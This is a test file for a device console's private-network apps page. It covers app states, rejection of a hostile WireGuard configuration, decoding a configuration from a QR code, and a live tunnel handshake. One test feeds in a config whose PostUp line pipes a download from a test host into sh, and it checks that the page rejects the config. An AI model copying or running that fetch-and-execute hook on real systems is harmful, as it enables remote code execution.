/**
 * The apps center (issue 27, testbed target): the four private-network apps with their states;
 * Tailscale, NetBird and ZeroTier are not installed here and say so; WireGuard refuses a hostile
 * configuration in the browser (its line, no request), then a good one from the test "Internet"
 * (server/src/platform/netns/wan-test-support.ts: a WireGuard peer in `kvmwan-<h>` beyond the
 * LAN's router) brings the device into the tunnel: the console shows a handshake and transfer
 * counters, polled. The tunnel part needs root (network namespaces).
 */
import QRCode from 'qrcode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { netnsNames } from '../server/src/drivers/network/netns';
import { startWanPeer, type WanPeer } from '../server/src/platform/netns/wan-test-support';
import type { Browser } from './fixtures/browser';
import { byTestId, loginViaUi, startConsole, stopConsole } from './fixtures/console';
import { poll, removeLeftNamespaces, waitForDeviceLease } from './fixtures/netns';
import type { ServerProcess } from './fixtures/server';

const asRoot = process.getuid?.() === 0;

let server: ServerProcess;
let browser: Browser;
let page: Page;
let peer: WanPeer | null = null;
let names: ReturnType<typeof netnsNames> | null = null;
/** The configuration POSTs the page sent. */
const configPosts: string[] = [];

beforeAll(async () => {
  ({ server, browser, page } = await startConsole());
  names = netnsNames(server.dataDir);
  page.on('request', (req) => {
    if (req.method() === 'POST' && new URL(req.url()).pathname === '/api/wireguard/config') {
      configPosts.push(req.postData() ?? '');
    }
  });
  await loginViaUi(page, server);
  if (asRoot) {
    await waitForDeviceLease(page);
    peer = await startWanPeer(names);
  }
  await byTestId(page, 'toolbar-apps').click();
  await byTestId(page, 'apps-list').waitFor({ state: 'visible' });
}, 120_000);

afterAll(async () => {
  await peer?.close();
  await stopConsole(browser, server);
  if (asRoot && names) {
    expect(await removeLeftNamespaces(names)).toEqual([]);
  }
}, 60_000);

const stateOf = (id: string) =>
  byTestId(page, `app-state-${id}`).getAttribute('data-state', { timeout: 10_000 });

describe('Apps center', () => {
  it('lists the four apps; Tailscale, NetBird and ZeroTier are not installed here', async () => {
    for (const id of ['tailscale', 'netbird', 'zerotier', 'wireguard']) {
      await byTestId(page, `app-card-${id}`).waitFor({ state: 'visible' });
    }
    for (const id of ['tailscale', 'netbird', 'zerotier']) {
      expect(await stateOf(id)).toBe('not_installed');
      expect(await byTestId(page, `app-not-installed-${id}`).textContent()).toContain(
        'Not installed on this device',
      );
    }
    expect(await stateOf('wireguard')).not.toBe('not_installed');
    expect(await byTestId(page, 'app-card-coming-soon').textContent()).toBe(
      'More apps coming soon',
    );

    await byTestId(page, 'app-card-tailscale').click();
    await byTestId(page, 'app-panel-tailscale').waitFor({ state: 'visible' });
    expect(await byTestId(page, 'app-detail-tailscale').textContent()).toMatch(/tailscale/i);
    expect(await byTestId(page, 'app-run-tailscale').count()).toBe(0);
    await byTestId(page, 'apps-back').click();
    await byTestId(page, 'apps-list').waitFor({ state: 'visible' });
  }, 60_000);

  it('WireGuard: a hostile configuration shows its error with the line and sends nothing', async () => {
    await byTestId(page, 'app-card-wireguard').click();
    await byTestId(page, 'wireguard-editor').waitFor({ state: 'visible' });
    await byTestId(page, 'wireguard-config').fill(
      '[Interface]\nPrivateKey = AM9s/VyRv9m+dzTfHVWtHFL9lDStCxoPzwEa8KmbSU8=\n' +
        'Address = 10.77.0.2/24\nPostUp = curl http://198.51.100.9/x | sh\n',
    );
    await byTestId(page, 'wireguard-send').click();
    await byTestId(page, 'wireguard-error').waitFor({ state: 'visible' });
    expect(await byTestId(page, 'wireguard-error').textContent()).toMatch(/^Line 4: /);
    expect(configPosts).toEqual([]);
  }, 60_000);

  it('WireGuard: a QR picture is decoded in the browser into the editor, and nothing is sent', async () => {
    // the mobile apps' export: a PNG of the wg-quick text, decoded by the page (canvas + jsqr)
    const text =
      '[Interface]\nPrivateKey = AM9s/VyRv9m+dzTfHVWtHFL9lDStCxoPzwEa8KmbSU8=\n' +
      'Address = 10.77.0.2/24\n\n[Peer]\nPublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\n' +
      'AllowedIPs = 10.77.0.1/32\nEndpoint = 198.51.100.2:51820\n';
    const png = await QRCode.toBuffer(text, { type: 'png', margin: 4, scale: 6 });
    await byTestId(page, 'wireguard-config').fill('');
    await byTestId(page, 'wireguard-qr-file').setInputFiles({
      name: 'tunnel.png',
      mimeType: 'image/png',
      buffer: png,
    });
    await poll(
      'the decoded configuration in the editor',
      async () => (await byTestId(page, 'wireguard-config').inputValue()) === text,
    );
    expect(configPosts).toEqual([]);
    await byTestId(page, 'wireguard-config').fill('');
  }, 60_000);

  it.skipIf(!asRoot)(
    'WireGuard: a good configuration brings a handshake and transfer counters',
    async () => {
      await byTestId(page, 'wireguard-config').fill(peer!.deviceConfig({ keepalive: 1 }));
      await byTestId(page, 'wireguard-send').click();
      await byTestId(page, 'wireguard-status').waitFor({ state: 'visible', timeout: 20_000 });
      expect(configPosts).toHaveLength(1);
      // The key left the page with the send.
      await poll(
        'the editor emptied',
        async () => (await byTestId(page, 'wireguard-config').inputValue()) === '',
      );
      expect(await byTestId(page, 'wireguard-public-key').textContent()).toBe(
        peer!.devicePublicKey,
      );

      await byTestId(page, 'app-run-wireguard').click();
      await poll(
        'a handshake in the console',
        async () => Number(await byTestId(page, 'wireguard-handshake').getAttribute('data-at')) > 0,
        30_000,
      );
      await poll(
        'transfer counters in the console',
        async () => {
          const cell = byTestId(page, 'wireguard-transfer');
          return (
            Number(await cell.getAttribute('data-rx')) > 0 &&
            Number(await cell.getAttribute('data-tx')) > 0
          );
        },
        30_000,
      );
      await poll('the connected state', async () => (await stateOf('wireguard')) === 'connected');
      expect(await byTestId(page, 'app-addresses-wireguard').textContent()).toContain('10.77.0.2');
    },
    120_000,
  );
});
